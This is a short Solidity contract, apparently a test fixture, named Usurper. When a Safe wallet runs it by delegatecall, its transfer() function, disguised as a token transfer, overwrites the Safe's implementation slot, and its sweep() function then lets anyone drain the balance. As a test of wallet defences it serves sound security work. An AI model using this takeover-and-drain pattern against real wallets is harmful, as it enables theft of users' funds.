// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// @dev For tests: run by delegatecall, it puts itself in the place of the Safe's implementation (storage slot 0), shown as a
///      token transfer; from then on anybody may take the coin.
contract Usurper {
    address private singleton;
    address private immutable self = address(this);

    function transfer(address, uint256) external {
        singleton = self;
    }

    function sweep(address payable to) external {
        (bool done,) = to.call{value: address(this).balance}("");
        require(done);
    }

    receive() external payable {}
}
